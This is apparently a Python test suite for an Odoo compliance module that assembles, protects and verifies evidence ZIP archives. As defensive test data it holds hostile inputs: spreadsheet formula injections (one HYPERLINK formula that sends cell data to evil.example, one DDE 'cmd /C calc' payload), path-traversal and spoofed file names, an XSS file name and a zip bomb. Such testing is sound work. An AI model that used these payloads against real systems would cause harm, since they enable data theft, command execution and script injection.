import base64
import hashlib
import io
import json
import re
import subprocess
import tempfile
import unicodedata
import zipfile
from contextlib import contextmanager, nullcontext, suppress
from datetime import datetime
from pathlib import Path
from unittest.mock import patch

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..report import evidence_gather, evidence_zip
from .test_reports import ReportCase

_PDF = 'odoo.addons.qualiopi.report.ir_actions_report'
_HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1',
            '=cmd|\' /C calc\'!A0', 'http://evil.example/a', '{=1+1}')


def pdf_text(content):
    with tempfile.NamedTemporaryFile(suffix='.pdf') as file:
        file.write(content)
        file.flush()
        text = subprocess.run(
            ['pdftotext', '-layout', file.name, '-'], capture_output=True, check=True, encoding='utf-8').stdout
    return ' '.join(text.split())


class EvidenceFileCase(ReportCase):

    def _file(self, user=None, **values):
        user = user or self.officer
        return self.env['qualiopi.evidence.file'].with_user(user).create({
            'company_id': user.company_id.id, 'date_from': '2026-01-01', 'date_to': '2026-12-31', **values,
        })

    def _run(self):
        with nullcontext() if type(self)._registry_patched else self.enter_registry_test_mode():
            self.env.ref('qualiopi.ir_cron_evidence_file').method_direct_trigger()
        self.env.invalidate_all()

    def _make(self, user=None, **values):
        file = self._file(user, **values)
        file.action_make()
        self._run()
        self.assertEqual(file.state, 'done', file.error)
        return file

    def _bytes(self, file):
        return file._attachment().raw

    def _zip(self, file):
        return zipfile.ZipFile(io.BytesIO(self._bytes(file)))

    def _manifest(self, file):
        return json.loads(self._zip(file).read('manifest.json'))

    def _attach(self, record, name, raw, **values):
        return self.env['ir.attachment'].create({
            'name': name, 'raw': raw, 'res_model': record._name, 'res_id': record.id,
            'company_id': self.company.id, **values,
        })

    @contextmanager
    def without_pdf(self):
        with patch(f'{_PDF}.find_in_path', side_effect=OSError), mute_logger(_PDF):
            yield


@tagged('post_install', '-at_install')
class TestEvidenceFile(EvidenceFileCase):

    def test_contents(self):
        """Documents, originals, spreadsheet, index, manifest and cover, verified with zipfile and hashlib alone."""
        self._attach(self.complaint, 'lettre.txt', b'A letter')
        file = self._make()
        archive = self._zip(file)
        self.assertIsNone(archive.testzip())
        names = archive.namelist()
        self.assertEqual(len(names), len(set(names)))
        manifest = json.loads(archive.read('manifest.json'))
        listed = {line['path']: line for line in manifest['files']}
        self.assertEqual(set(names), {*listed, 'manifest.json', 'cover.pdf'})
        for path, line in listed.items():
            content = archive.read(path)
            self.assertEqual(hashlib.sha256(content).hexdigest(), line['sha256'], path)
            self.assertEqual(len(content), line['size'], path)
            self.assertTrue(line['date'] and line['author'], path)
        for part in ('indicator-31/register.pdf', 'indicator-32/improvement-plan.pdf', 'indicator-32/findings.pdf',
                     'indicator-32/internal-communications.pdf', 'spreadsheet/registers.xlsx', 'index.html'):
            self.assertIn(part, names)
        sheets = [name for name in names if '/traceability-sheets/' in name]
        self.assertTrue(sheets)
        self.assertIn(self.finding.reference, pdf_text(archive.read(sheets[0])))
        self.assertIn(self.complaint.reference, pdf_text(archive.read('indicator-31/register.pdf')))
        # Originals: evidence of the action and what hangs on the entry.
        paths = {Path(name).name: name for name in names}
        self.assertEqual(archive.read(paths['list.pdf']), b'%PDF-1.4 list')
        self.assertEqual(archive.read(paths['lettre.txt']), b'A letter')
        self.assertEqual(listed[paths['list.pdf']]['record'], self.action.reference)
        # PDFs are stored, texts deflated; all dates are the snapshot's.
        self.assertEqual(archive.getinfo('indicator-31/register.pdf').compress_type, zipfile.ZIP_STORED)
        self.assertEqual(archive.getinfo('manifest.json').compress_type, zipfile.ZIP_DEFLATED)
        self.assertEqual(len({info.date_time for info in archive.infolist()}), 1)
        # The cover bears the fingerprint of the manifest.
        cover = pdf_text(archive.read('cover.pdf')).replace(' ', '')
        sha256 = hashlib.sha256(archive.read('manifest.json')).hexdigest()
        self.assertIn(sha256, cover)
        self.assertEqual(file.manifest_sha256, sha256)
        self.assertEqual(file.sha256, hashlib.sha256(self._bytes(file)).hexdigest())
        # The index works offline: every link is a file of the ZIP, nothing comes from outside.
        index = archive.read('index.html').decode()
        links = [link for link in re.findall(r'href="([^"]+)"', index) if not link.startswith('#')]
        self.assertTrue({'cover.pdf', 'manifest.json', 'indicator-31/register.pdf'} <= set(links))
        self.assertLessEqual(set(links), set(names))
        self.assertNotRegex(index, r'src=|<script|@import|url\(')
        self.assertIn("Provider &amp; Sons", index)
        self.assertFalse(self.env['ir.attachment'].search_count([
            ('res_model', '=', 'qualiopi.evidence.piece'), ('res_field', '=', 'content'),
            ('res_id', 'in', file.piece_ids.ids),
        ]))

    def test_totals_are_equal(self):
        """The same rows in PDF, spreadsheet, index and on the screen."""
        file = self._make()
        archive = self._zip(file)
        totals = {line['document']: line['rows'] for line in self._manifest(file)['totals']}
        year = [('company_id', '=', self.company.id)]
        entries = self.env['qualiopi.complaint'].with_user(self.officer).search_count(year)
        self.assertEqual(totals['Register'], entries)
        self.assertEqual(totals['Improvement plan'], self.env['qualiopi.improvement.action'].with_user(
            self.officer).search_count(year))
        book = openpyxl.load_workbook(io.BytesIO(archive.read('spreadsheet/registers.xlsx')))
        for title, rows in totals.items():
            if title in book.sheetnames:
                self.assertEqual(book[title].max_row - 1, rows, title)
        self.assertIn('Register', book.sheetnames)
        references = [cell.value for cell in book['Register']['A'][1:]]
        page = pdf_text(archive.read('indicator-31/register.pdf'))
        for reference in references:
            self.assertIn(reference, page)
        index = archive.read('index.html').decode()
        self.assertRegex(index, rf'<td>Register</td>\s*<td class="num">{entries}</td>')

    def test_same_bytes(self):
        """The same snapshot, made again by the same user, is the same file."""
        first = self._make()
        second = self._file()
        second._as_server().write({'snapshot_on': first.snapshot_on, 'is_gathered': False})
        second.with_user(self.officer).action_make()
        second._as_server().snapshot_on = first.snapshot_on
        self._run()
        self.assertEqual(second.state, 'done', second.error)
        one, two = self._zip(first), self._zip(second)
        for name in one.namelist():
            self.assertEqual(one.read(name), two.read(name), name)
        self.assertEqual(first.sha256, second.sha256)

    def test_same_bytes_after_a_kill(self):
        """Interrupted after two documents and taken up again, an anonymised snapshot has the bytes of one made at a
        stretch."""
        first = self._make(is_anonymised=True)
        second = self._file(is_anonymised=True)
        second.action_make()
        second._as_server().snapshot_on = first.snapshot_on
        Report = type(self.env['ir.actions.report'])
        original, printed = Report._qualiopi_call_wkhtmltopdf, []

        def die_at_third(report, arguments, target):
            if len(printed) == 2:
                raise KeyboardInterrupt
            printed.append(target)
            return original(report, arguments, target)

        with patch.object(Report, '_qualiopi_call_wkhtmltopdf', die_at_third), suppress(KeyboardInterrupt):
            self._run()
        self.env.invalidate_all()
        self.assertEqual(second.state, 'making')
        self._run()
        self.assertEqual(second.state, 'done', second.error)
        self.assertEqual(first.sha256, second.sha256)

    def test_long_lists(self):
        """A long list is several PDFs, each saying which part it is; together they hold each line once (F2)."""
        for number in range(5):
            self._entry('difficulty', f"Line {number}")
        with patch.object(evidence_gather, 'PART_ROWS', 3):
            file = self._make()
        archive = self._zip(file)
        paths = sorted(name for name in archive.namelist() if name.startswith('indicator-31/register'))
        self.assertEqual(paths, [f'indicator-31/register-{number}.pdf' for number in (1, 2, 3)])
        parts = [pdf_text(archive.read(path)) for path in paths]
        entries = self.env['qualiopi.complaint'].with_user(self.officer).search([('company_id', '=', self.company.id)])
        self.assertEqual(len(entries), 7)
        for entry in entries:
            self.assertEqual(len([part for part in parts if f' {entry.name} ' in part]), 1, entry.name)
        self.assertIn("Part 2 of 3: lines 3 to 4 of 7", parts[1])
        [total] = [line['rows'] for line in self._manifest(file)['totals'] if line['document'] == 'Register']
        self.assertEqual(total, 7)
        index = archive.read('index.html').decode()
        for path in paths:
            self.assertIn(f'href="{path}"', index)

    def test_cells(self):
        """Texts stay texts, dates and numbers are dates and numbers, nothing is a formula or a link (F3, G1)."""
        for text in _HOSTILE:
            self._entry('difficulty', text, description=text, contact_name=text)
            self.finding.copy({'name': text, 'description': text})
        file = self._make()
        content = self._zip(file).read('spreadsheet/registers.xlsx')
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = set()
        for sheet in book:
            self.assertFalse(sheet._hyperlinks, sheet.title)
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, 'f', (sheet.title, cell.coordinate))
                    self.assertIsNone(cell.hyperlink)
                    texts.add(cell.value)
        self.assertLessEqual(set(_HOSTILE) - {'\t=1+1'}, texts)
        register = book['Register']
        heads = {cell.value: cell.column for cell in register[1]}
        self.assertIsInstance(register.cell(2, heads["Received on"]).value, datetime)
        self.assertTrue(register.freeze_panes and register.auto_filter.ref)
        package = zipfile.ZipFile(io.BytesIO(content))
        self.assertNotIn(b'<hyperlink', b''.join(map(package.read, package.namelist())))

    def test_names_and_duplicates(self):
        """No name leaves its folder or breaks a system; the same content is stored once (G9, F4)."""
        hostile = ('../../../../etc/evil.sh', '..\\..\\evil.bat', 'C:\\con', 'a\u202egpj.exe', 'a\nb\x01.txt',
                   'é' * 300 + '.pdf', '<>:"|?*.txt', '.htaccess', '   ', 'de\u0301ja\u0300.pdf', 'NUL.txt', 'x.TXT',
                   'X.txt')
        for number, name in enumerate(hostile):
            self._attach(self.complaint, name, b'content %d' % number)
        for record in (self.complaint, self.difficulty):
            self._attach(record, 'twice.pdf', b'the same bytes')
        file = self._make()
        archive = self._zip(file)
        names = archive.namelist()
        folded = [name.casefold() for name in names]
        self.assertEqual(len(folded), len(set(folded)))
        for name in names:
            self.assertLessEqual(len(name.encode()), 150)
            self.assertEqual(name, unicodedata.normalize('NFC', name))
            for part in name.split('/'):
                self.assertTrue(part and part == part.strip(' .'), name)
                self.assertNotRegex(part, r'[\x00-\x1f\x7f<>:"|?*\\\u202a-\u202e\u2066-\u2069\u200b-\u200f]')
                self.assertNotRegex(part, r'(?i)^(con|nul|prn|aux|com\d|lpt\d)(\.|$)')
        contents = [archive.read(name) for name in names]
        for number in range(len(hostile)):
            self.assertIn(b'content %d' % number, contents)
        self.assertEqual(contents.count(b'the same bytes'), 1)
        [line] = [line for line in self._manifest(file)['files'] if line['path'].endswith('twice.pdf')]
        self.assertEqual(line['record'], f'{self.complaint.reference}, {self.difficulty.reference}')

    def test_lost_file(self):
        """A file that the server has lost is listed; the others are all there (F4)."""
        attachment = self._attach(self.complaint, 'lost.pdf', b'%PDF lost')
        changed = self.env['ir.attachment'].search([
            ('res_model', '=', 'qualiopi.evidence'), ('res_field', '=', 'file'), ('res_id', '=', self.evidence.id)])
        Path(attachment._full_path(attachment.store_fname)).unlink()
        Path(changed._full_path(changed.store_fname)).write_bytes(b'%PDF-1.4 evil')
        self.addCleanup(Path(changed._full_path(changed.store_fname)).write_bytes, b'%PDF-1.4 list')
        file = self._make()
        self.assertEqual(file.missing_count, 1)
        self.assertIn("lost.pdf", file.note)
        manifest = self._manifest(file)
        [line] = [line for line in manifest['left_out'] if line['state'] == 'missing']
        self.assertEqual((line['title'], line['record']), ('lost.pdf', self.complaint.reference))
        self.assertIn("lost.pdf", self._zip(file).read('index.html').decode())
        [altered] = [line for line in manifest['files'] if line['path'].endswith('list.pdf')]
        self.assertIn(self.evidence.sha256, altered['note'])

    def test_heavy_image(self):
        """A picture of 50 MB goes into the ZIP as it is, and into no PDF (F2)."""
        picture = b'\x89PNG\r\n\x1a\n' + bytes(50 * 1024 * 1024)
        attachment = self._attach(self.complaint, 'photo.png', picture)
        file = self._make()
        archive = self._zip(file)
        [name] = [name for name in archive.namelist() if name.endswith('photo.png')]
        self.assertEqual(archive.read(name), attachment.raw)
        papers = [
            entry for entry in archive.infolist()
            if entry.filename.endswith('.pdf') and '/files/' not in entry.filename
        ]
        self.assertTrue(papers)
        self.assertLess(max(entry.file_size for entry in papers), 1024 * 1024)

    def test_size_cap(self):
        self.env['ir.config_parameter'].set_param('qualiopi.evidence_file_max_mb', '1')
        self._attach(self.complaint, 'big.bin', b'x' * 1200 * 1024)
        file = self._make()
        [line] = [line for line in self._manifest(file)['left_out'] if line['title'] == 'big.bin']
        self.assertEqual(line['sha256'], hashlib.sha256(b'x' * 1200 * 1024).hexdigest())
        self.assertIn("1 MB", line['note'])
        self.assertFalse([name for name in self._zip(file).namelist() if name.endswith('big.bin')])

    def test_without_wkhtmltopdf(self):
        """Without the program that makes PDFs the ZIP is there all the same, with pages and a remark (F1)."""
        file = self._file()
        file.action_make()
        with self.without_pdf():
            self._run()
        self.assertEqual(file.state, 'done', file.error)
        names = self._zip(file).namelist()
        self.assertIn('indicator-31/register.html', names)
        self.assertIn('cover.html', names)
        self.assertFalse([name for name in names if name.endswith('.pdf') and '/files/' not in name])
        self.assertIn(self.complaint.reference, self._zip(file).read('indicator-31/register.html').decode())
        self.assertIn("wkhtmltopdf", file.note)

    def test_hanging_wkhtmltopdf(self):
        file = self._file()
        file.action_make()
        with patch(f'{_PDF}.subprocess.run', autospec=True) as run, mute_logger(_PDF):
            run.side_effect = subprocess.TimeoutExpired('wkhtmltopdf', 100)
            self._run()
            # After two documents the others do not wait for the limit again.
            self.assertEqual(run.call_count, 2)
        self.assertEqual(file.state, 'done')
        self.assertIn("not ready after", file.note)

    def test_killed_half_way(self):
        """What was made is kept: after a kill the job goes on with the step it was at."""
        file = self._file()
        file.action_make()
        printed = []
        Report = type(self.env['ir.actions.report'])
        original = Report._qualiopi_call_wkhtmltopdf

        def die_at_third(report, arguments, target):
            if len(printed) == 2:
                raise KeyboardInterrupt
            printed.append(target)
            return original(report, arguments, target)

        # Not assertRaises: it would roll back what was kept.
        with patch.object(Report, '_qualiopi_call_wkhtmltopdf', die_at_third), suppress(KeyboardInterrupt):
            self._run()
        self.env.invalidate_all()
        self.assertEqual(file.state, 'making')
        documents = file.piece_ids.filtered(lambda piece: piece.kind == 'document')
        made = documents.filtered(lambda piece: piece.state == 'ready')
        self.assertEqual(len(made), 2)
        again = []

        def count(report, arguments, target):
            again.append(target)
            return original(report, arguments, target)

        with patch.object(Report, '_qualiopi_call_wkhtmltopdf', count):
            self._run()
        self.assertEqual(file.state, 'done')
        # The others and the cover.
        self.assertEqual(len(again), len(documents) - 2 + 1)

    def test_crashing_wkhtmltopdf(self):
        """A crash, or a PDF that is none, gives pages and a remark (F1)."""
        for code, content in ((-11, None), (0, b'')):
            def crash(arguments, *args, code=code, content=content, **kwargs):
                if content is not None:
                    Path(arguments[-1]).write_bytes(content)
                return subprocess.CompletedProcess(arguments, code, '', 'segmentation fault')

            file = self._file()
            file.action_make()
            with patch(f'{_PDF}.subprocess.run', crash), mute_logger(_PDF):
                self._run()
            self.assertEqual(file.state, 'done', file.error)
            self.assertIn('indicator-31/register.html', self._zip(file).namelist())
            self.assertIn("failed on the server", file.note)

    def test_three_kills(self):
        file = self._file()
        file.action_make()
        file._as_server().attempts = 3
        self._run()
        self.assertEqual(file.state, 'failed')
        self.assertIn("three times", file.error)
        file.with_user(self.officer).action_make()
        self._run()
        self.assertEqual(file.state, 'done', file.error)

    @mute_logger('odoo.addons.qualiopi.models.qualiopi_evidence_file')
    def test_disk_full(self):
        """A full disk is said in plain words; no half file stays, and what was made is kept (F8)."""
        file = self._file()
        file.action_make()
        with patch.object(evidence_zip.EvidenceZip, 'add', side_effect=OSError(28, "No space left on device")):
            self._run()
        self.assertEqual(file.state, 'failed')
        self.assertIn("No space left", file.error)
        self.assertFalse(file._attachment())
        part = self.env['ir.attachment']._qualiopi_part_path(f'qualiopi-evidence-{file.id}.zip')
        self.assertFalse(Path(part).exists())
        file.with_user(self.officer).action_make()
        self._run()
        self.assertEqual(file.state, 'done', file.error)

    @mute_logger('odoo.addons.qualiopi.models.qualiopi_evidence_file')
    def test_read_only_filestore(self):
        """Neither half a ZIP nor an attachment stays when the finished file cannot be moved into the filestore, or no
        file begun (F8)."""
        part = 'odoo.addons.qualiopi.models.ir_attachment_file.os.replace'
        refused = OSError(30, "Read-only file system")
        for target in (part, 'odoo.addons.qualiopi.report.evidence_assemble.open'):
            file = self._file()
            file.action_make()
            with patch(target, side_effect=refused, create=True):
                self._run()
            self.assertEqual(file.state, 'failed')
            self.assertIn("Read-only file system", file.error)
            self.assertFalse(file._attachment())
            self.assertFalse(file.sha256)
            left = self.env['ir.attachment']._qualiopi_part_path(f'qualiopi-evidence-{file.id}.zip')
            self.assertFalse(Path(left).exists())
            file.with_user(self.officer).action_make()
            self._run()
            self.assertEqual(file.state, 'done', file.error)

    @mute_logger('odoo.addons.qualiopi.models.qualiopi_evidence_file')
    def test_full_disk_while_reading(self):
        """A document whose content the filestore did not take stops the file: none is empty or left out (F8)."""
        file = self._file()
        file.action_make()
        full = OSError(28, "No space left on device")
        with patch('odoo.addons.base.models.ir_attachment.open', side_effect=full, create=True):
            self._run()
        self.assertEqual(file.state, 'failed')
        self.assertIn("No space left on device", file.error)
        self.assertFalse(file.is_gathered or file.piece_ids)
        file.with_user(self.officer).action_make()
        self._run()
        self.assertEqual((file.state, file.missing_count), ('done', 0), file.error)

    def test_five_thousand_files(self):
        """Five thousand files of one name each have a path of their own, and the ZIP is verified (F4)."""
        taken, target = {}, io.BytesIO()
        paths = [evidence_zip.free_path('files', '../scan.PDF' if n % 2 else 'Scan.pdf', taken) for n in range(5000)]
        self.assertEqual(len({path.casefold() for path in paths}), 5000)
        archive = evidence_zip.EvidenceZip(target, datetime(2026, 11, 21, 9))
        lines = []
        for number, path in enumerate(paths):
            sha256, size = archive.add_bytes(path, b'%d' % number)
            lines.append({'path': path, 'sha256': sha256, 'size': size})
        archive.add_bytes('manifest.json', json.dumps({'format': evidence_zip.FORMAT, 'files': lines}).encode())
        archive.close()
        result = evidence_zip.verify(target)
        self.assertEqual((result['error'], result['count'], result['changed']), (None, 5000, []))

    # === RIGHTS === #

    def test_nothing_confidential(self):
        """Nothing confidential is in the file, even when its owner may read it (rule 8)."""
        secret = self._entry('safeguarding', "Secret subject", user=self.confidential, contact_name="Hidden Person")
        secret.with_user(self.confidential).description = "Secret description"
        self._attach(secret, 'secret.pdf', b'%PDF secret')
        for user in (self.confidential, self.officer):
            file = self._make(user)
            archive = self._zip(file)
            for name in archive.namelist():
                content = archive.read(name)
                if name.endswith('.pdf') and '/files/' not in name:
                    content = pdf_text(content).encode()
                elif name.endswith('.xlsx'):
                    book = openpyxl.load_workbook(io.BytesIO(content))
                    content = repr([[cell.value for cell in row] for sheet in book for row in sheet]).encode()
                for word in (b'Secret', b'Hidden Person', b'secret.pdf', b'%PDF secret'):
                    self.assertNotIn(word, content, name)

    def test_other_company(self):
        """Records of another company are in no document, sheet, count or folder (B6)."""
        foreign = self.env['qualiopi.complaint'].with_user(self.other).with_context(
            allowed_company_ids=self.other_company.ids,
        ).create({
            'nature': 'complaint', 'name': "Foreign subject", 'received_on': '2026-03-02 09:00:00',
            'company_id': self.other_company.id,
        })
        self._attach(foreign, 'foreign.pdf', b'%PDF foreign', company_id=self.other_company.id)
        both = self._user('both', 'qualiopi.group_manager')
        both.company_ids = [Command.link(self.other_company.id)]
        file = self._make(both, company_id=self.company.id)
        archive = self._zip(file)
        self.assertNotIn("Foreign subject", pdf_text(archive.read('indicator-31/register.pdf')))
        book = openpyxl.load_workbook(io.BytesIO(archive.read('spreadsheet/registers.xlsx')))
        self.assertNotIn("Foreign", repr([[cell.value for cell in row] for sheet in book for row in sheet]))
        self.assertNotIn("oreign", archive.read('manifest.json').decode())
        file = file.with_user(self.other).with_context(allowed_company_ids=self.other_company.ids)
        with self.assertRaises(AccessError):
            file.read(['name'])
        self.assertFalse(file.search([]))

    def test_roles(self):
        file = self._make()
        for user in (self.declarant, self.portal, self.other):
            with self.assertRaises(AccessError):
                file.with_user(user).read(['name'])
            with self.assertRaises(AccessError):
                file.with_user(user).action_make()
        # Another officer's file is that officer's.
        with self.assertRaises(AccessError):
            file.with_user(self.officer2).read(['name'])
        self.assertTrue(file.with_user(self.auditor).read(['name']))
        for user in (self.auditor, self.officer2):
            with self.assertRaises(AccessError):
                file.with_user(user).write({'name': "Mine"})
        with self.assertRaises(AccessError):
            self._file(self.auditor)
        draft = self._file()
        with self.assertRaises(AccessError):
            draft.with_user(self.auditor).read(['name'])
        # Nobody reads the attachment past the page that notes the download.
        for user in (self.officer, self.auditor, self.officer2):
            with self.assertRaises(AccessError):
                file._attachment().with_user(user).check_access('read')
            with self.assertRaises(AccessError):
                file.with_user(user).read(['zip_file'])

    def test_locked(self):
        file = self._make()
        for values in ({'name': "Other"}, {'date_to': '2026-11-30'}, {'state': 'draft'}, {'sha256': '0'},
                       {'manifest_sha256': '0'}):
            with self.assertRaises(UserError):
                file.with_user(self.officer).write(values)
        for call in (file.with_user(self.officer).unlink, file.with_user(self.officer).action_make):
            with self.assertRaises(UserError):
                call()
        with self.assertRaises(AccessError):
            file.piece_ids.with_user(self.officer).write({'sha256': '0'})
        forged = self._file(state='done', sha256='0' * 64, manifest_sha256='0' * 64)
        self.assertEqual((forged.state, forged.sha256), ('draft', False))
        with self.assertRaises(UserError):
            forged.action_download()

    # === VERIFYING === #

    def _verify(self, content, user=None):
        wizard = self.env['qualiopi.evidence.verify'].with_user(user or self.officer).create({
            'zip_file': base64.b64encode(content)})
        wizard.action_verify()
        return wizard

    def _altered(self, file, change):
        """The ZIP written again, with ``change(name, content)`` giving the new content of each entry or None."""
        source, target = self._zip(file), io.BytesIO()
        with zipfile.ZipFile(target, 'w') as archive:
            for name in source.namelist():
                content = change(name, source.read(name))
                if content is not None:
                    archive.writestr(name, content)
        return target

    def test_verify(self):
        file = self._make()
        wizard = self._verify(self._bytes(file))
        self.assertEqual((wizard.state, wizard.file_id), ('intact', file))
        self.assertEqual(wizard.count, len(self._manifest(file)['files']))
        register = 'indicator-31/register.pdf'
        # One byte.
        changed = self._altered(file, lambda name, content: content[:-1] + b'x' if name == register else content)
        wizard = self._verify(changed.getvalue())
        self.assertEqual(wizard.state, 'changed')
        self.assertIn(register, wizard.details)
        self.assertIn("Changed (1)", wizard.details)
        missing = self._altered(file, lambda name, content: None if name == register else content)
        wizard = self._verify(missing.getvalue())
        self.assertIn("Missing (1)", wizard.details)
        self.assertIn(register, wizard.details)
        added = self._altered(file, lambda name, content: content)
        with zipfile.ZipFile(added, 'a') as archive:
            archive.writestr('indicator-31/<img src=x onerror=alert(1)>.pdf', b'%PDF new')
        wizard = self._verify(added.getvalue())
        self.assertIn("Added (1)", wizard.details)
        self.assertNotIn('<img', wizard.details)
        cover = self._altered(file, lambda name, content: content + b' ' if name == 'cover.pdf' else content)
        wizard = self._verify(cover.getvalue())
        self.assertEqual(wizard.state, 'changed')
        self.assertIn('cover.pdf', wizard.details)

    def test_verify_forged_manifest(self):
        """Who changes a file and the manifest with it is not believed: no file kept here has this manifest."""
        file = self._make()
        archive = self._zip(file)
        manifest = json.loads(archive.read('manifest.json'))
        line = next(line for line in manifest['files'] if line['path'] == 'index.html')
        line.update(sha256=hashlib.sha256(b'forged').hexdigest(), size=6)
        forged = self._altered(file, lambda name, content: {
            'index.html': b'forged', 'manifest.json': json.dumps(manifest).encode()}.get(name, content))
        wizard = self._verify(forged.getvalue())
        self.assertEqual(wizard.state, 'unknown')
        self.assertFalse(wizard.file_id)

    def test_verify_rubbish(self):
        bomb = io.BytesIO()
        with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED) as archive:
            archive.writestr('manifest.json', b'[' * 40 * 1024 * 1024)
        deep = io.BytesIO()
        with zipfile.ZipFile(deep, 'w', zipfile.ZIP_DEFLATED) as archive:
            archive.writestr('manifest.json', b'[' * 200_000)
        other = io.BytesIO()
        with zipfile.ZipFile(other, 'w') as archive:
            archive.writestr('a.txt', b'a')
        for content in (b'no zip', b'PK\x03\x04', b'%PDF-1.4', bomb.getvalue(), deep.getvalue(), other.getvalue()):
            self.assertEqual(self._verify(content).state, 'unreadable')


@tagged('post_install', '-at_install')
class TestEvidenceFileRoute(EvidenceFileCase, HttpCase):

    @classmethod
    def _user(cls, name, groups, company=None):
        user = super()._user(name, groups, company)
        user.password = user.login
        return user

    @mute_logger('odoo.http')
    def test_download(self):
        """The owner and auditors download, which is noted; everybody else finds nothing (F6)."""
        file = self._file()
        file.action_make()
        with self.without_pdf():
            self._run()
        self.assertEqual(file.state, 'done', file.error)
        path = f'/qualiopi/evidence-file/{file.id}'
        for user in (self.officer, self.auditor):
            self.authenticate(user.login, user.login)
            response = self.url_open(path, allow_redirects=False)
            self.assertEqual(response.status_code, 200)
            self.assertEqual(hashlib.sha256(response.content).hexdigest(), file.sha256)
            self.assertIn('attachment', response.headers['Content-Disposition'])
            log = self.env['qualiopi.access.log'].search([
                ('res_model', '=', file._name), ('res_id', '=', file.id), ('user_id', '=', user.id)])
            self.assertEqual(log.operation, 'download')
            attachment = file._attachment()
            for other in (f'/web/content/{attachment.id}', f'/web/content/{file._name}/{file.id}/zip_file'):
                self.assertEqual(self.url_open(other, allow_redirects=False).status_code, 404, other)
        for user in (self.officer2, self.declarant, self.portal, self.other):
            self.authenticate(user.login, user.login)
            self.assertEqual(self.url_open(path, allow_redirects=False).status_code, 404, user.login)
        self.authenticate(self.officer.login, self.officer.login)
        for wrong in (self._file().id, 0, 2**31, 10**9):
            self.assertEqual(self.url_open(
                f'/qualiopi/evidence-file/{wrong}', allow_redirects=False).status_code, 404)
        self.logout()
        self.assertEqual(self.url_open(path, allow_redirects=False).status_code, 303)


@tagged('post_install', '-at_install')
class TestAllEvidence(EvidenceFileCase):
    """All evidence on one screen, and what lacks it."""

    def _rows(self, user=None, domain=()):
        user = user or self.officer
        return self.env['qualiopi.evidence.overview'].with_user(user).with_context(
            allowed_company_ids=user.company_ids.ids).search([('company_id', '=', self.company.id), *domain])

    def test_pieces_and_what_is_missing(self):
        event = self.env['event.event'].create({
            'name': "First aid", 'date_begin': '2026-03-02 08:00:00', 'date_end': '2026-03-03 16:00:00',
            'company_id': self.company.id})
        told = self._entry('complaint', "Told in writing", event_id=event.id)
        self.env['qualiopi.evidence'].with_user(self.officer).create({
            'complaint_id': told.id, 'name': "Letter", 'type': 'statement', 'statement': "What was received"})
        pieces = self._rows(domain=[('state', '=', 'present')])
        self.assertEqual(set(pieces.mapped('name')), {"Closing list", "Letter"})
        [letter] = pieces.filtered(lambda row: row.name == "Letter")
        self.assertEqual((letter.reference, letter.event_id, letter.complaint_id), (told.reference, event, told))
        self.assertEqual(letter.indicator_ids, told.indicator_ids)
        self.assertTrue(letter.indicator_ids)
        # Without its written trace: the complaint of the chain; difficulties need none.
        missing = self._rows(domain=[('state', '=', 'missing')])
        self.assertEqual(missing.complaint_id, self.complaint)
        self.assertFalse(missing.action_id)
        self.env.cr.execute("UPDATE qualiopi_evidence SET action_id = NULL WHERE id = %s", [self.evidence.id])
        self.env.invalidate_all()
        missing = self._rows(domain=[('state', '=', 'missing')])
        self.assertEqual(missing.action_id, self.action)
        self.assertEqual(missing.filtered('action_id').action_open_record()['res_id'], self.action.id)

    def test_by_indicator_session_course_and_period(self):
        Rows = self.env['qualiopi.evidence.overview'].with_user(self.officer)
        domain = [('company_id', '=', self.company.id)]
        groups = dict(Rows._read_group(domain, ['indicator_ids'], ['__count']))
        [row] = self._rows(domain=[('name', '=', "Closing list")])
        for indicator in self.action.indicator_ids:
            self.assertIn(row, self._rows(domain=[('indicator_ids', 'in', indicator.ids)]))
            self.assertTrue(groups[indicator])
        for name in ('event_id', 'course_id', 'date:month', 'kind'):
            self.assertEqual(sum(count for *__, count in Rows._read_group(domain, [name], ['__count'])),
                             len(self._rows()), name)

    def test_who_sees_what(self):
        """Nothing confidential, nothing of another company, no dropout for an auditor."""
        secret = self._entry('safeguarding', "Secret", user=self.confidential)
        self.env['qualiopi.evidence'].with_user(self.confidential).create({
            'complaint_id': secret.id, 'name': "Secret letter", 'type': 'statement', 'statement': "Secret words"})
        dropout = self.env['qualiopi.dropout'].with_user(self.officer).create({
            'learner_name': "Somebody", 'date': '2026-03-02', 'company_id': self.company.id})
        self.env['qualiopi.evidence'].with_user(self.officer).create({
            'dropout_id': dropout.id, 'name': "Call", 'type': 'statement', 'statement': "We called twice"})
        for user in (self.officer, self.confidential, self.auditor):
            names = self._rows(user).mapped('name')
            self.assertNotIn("Secret letter", names)
            self.assertIn("Closing list", names)
            self.assertEqual("Call" in names, user != self.auditor)
        self.assertFalse(self._rows(self.other))
        for user in (self.declarant, self.portal):
            with self.assertRaises(AccessError):
                self._rows(user)
        with self.assertRaises(AccessError):
            self._rows()[0].write({'name': "Other"})
